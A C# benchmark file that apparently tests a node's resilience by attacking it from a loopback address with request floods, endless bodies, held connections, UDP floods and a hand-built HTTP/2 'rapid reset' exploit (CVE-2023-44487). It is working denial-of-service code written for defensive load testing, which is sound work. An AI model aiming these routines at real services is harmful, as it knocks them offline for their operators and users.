using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;

namespace IdResolution.Benchmarks.Load;

/// <summary>
/// What somebody does who wants to keep others out, as fast as the machine lets him: all of it from one address of
/// loopback, so that the node sees one network. Dispose ends it.
/// </summary>
internal sealed class Attack : IAsyncDisposable
{
    private static readonly IPAddress s_from = IPAddress.Parse("127.0.0.66");

    private readonly CancellationTokenSource _end = new();
    private readonly ConcurrentBag<Task> _attackers = [];
    private long _count;

    /// <summary>How many requests were sent or, where only that is tried, connections made.</summary>
    public long Count => Interlocked.Read(ref _count);

    /// <summary>A socket of somebody at an address of loopback.</summary>
    public static async Task<Socket> ConnectAsync(IPEndPoint server, IPAddress from, CancellationToken stop)
    {
        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        try
        {
            socket.Bind(new IPEndPoint(from, 0));
            await socket.ConnectAsync(server, stop);
            return socket;
        }
        catch
        {
            socket.Dispose();
            throw;
        }
    }

    /// <summary>Asks on so many connections, each time when an answer begins to come.</summary>
    public Attack Ask(IPEndPoint server, int connections, Func<long, byte[]> request) =>
        On(
            server,
            connections,
            async socket =>
            {
                var answer = new byte[65_536];
                while (true)
                {
                    await socket.SendAsync(request(Interlocked.Increment(ref _count)), _end.Token);
                    if (await socket.ReceiveAsync(answer, _end.Token) == 0)
                    {
                        return;
                    }
                }
            }
        );

    /// <summary>Sends what never ends on so many connections.</summary>
    public Attack SendEndlessly(IPEndPoint server, int connections, byte[] head, byte[] part) =>
        On(
            server,
            connections,
            async socket =>
            {
                await socket.SendAsync(head, _end.Token);
                while (true)
                {
                    await socket.SendAsync(part, _end.Token);
                    Interlocked.Increment(ref _count);
                }
            }
        );

    /// <summary>Keeps so many connections open, and makes each anew that the server ends.</summary>
    public Attack Hold(IPEndPoint server, int connections) =>
        On(
            server,
            connections,
            async socket =>
            {
                Interlocked.Increment(ref _count);
                await socket.ReceiveAsync(new byte[1], _end.Token);
            }
        );

    /// <summary>Sends packets from so many sockets, and does not look at the answers.</summary>
    public Attack SendPackets(IPEndPoint server, int sockets, byte[] packet)
    {
        for (var i = 0; i < sockets; i++)
        {
            Run(async () =>
            {
                using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
                socket.Bind(new IPEndPoint(s_from, 0));
                while (true)
                {
                    await socket.SendToAsync(packet, server, _end.Token);
                    Interlocked.Increment(ref _count);
                }
            });
        }
        return this;
    }

    /// <summary>Begins requests of HTTP/2 and takes each back at once ("rapid reset", CVE-2023-44487).</summary>
    public Attack Reset(IPEndPoint server, int connections)
    {
        byte[] preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 0, 4, 0, 0, 0, 0, 0];
        // :method POST, :scheme http, :path, :authority (RFC 7541 §6.2.2, appendix A).
        byte[] fields = [0x83, 0x86, 0x04, 1, (byte)'/', 0x01, 1, (byte)'a'];
        return On(
            server,
            connections,
            async socket =>
            {
                await socket.SendAsync(preface, _end.Token);
                var answer = new byte[65_536];
                for (var stream = 1; ; )
                {
                    var frames = new List<byte>();
                    for (var i = 0; i < 100; i++, stream += 2)
                    {
                        byte[] id = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
                        frames.AddRange([0, 0, (byte)fields.Length, 1, 4, .. id, .. fields]);
                        frames.AddRange([0, 0, 4, 3, 0, .. id, 0, 0, 0, 8]);
                    }
                    await socket.SendAsync(frames.ToArray(), _end.Token);
                    Interlocked.Add(ref _count, 100);
                    while (socket.Available > 0)
                    {
                        if (await socket.ReceiveAsync(answer, _end.Token) == 0)
                        {
                            return;
                        }
                    }
                }
            }
        );
    }

    public async ValueTask DisposeAsync()
    {
        await _end.CancelAsync();
        await Task.WhenAll(_attackers);
        _end.Dispose();
    }

    private Attack On(IPEndPoint server, int connections, Func<Socket, Task> attack)
    {
        for (var i = 0; i < connections; i++)
        {
            Run(async () =>
            {
                using var socket = await ConnectAsync(server, s_from, _end.Token);
                await attack(socket);
            });
        }
        return this;
    }

    private void Run(Func<Task> once) =>
        _attackers.Add(
            Task.Run(async () =>
            {
                while (!_end.IsCancellationRequested)
                {
                    try
                    {
                        await once();
                    }
                    catch (Exception e) when (e is SocketException or OperationCanceledException)
                    {
                        // The server ended it, or refused it: again.
                    }
                }
            })
        );
}
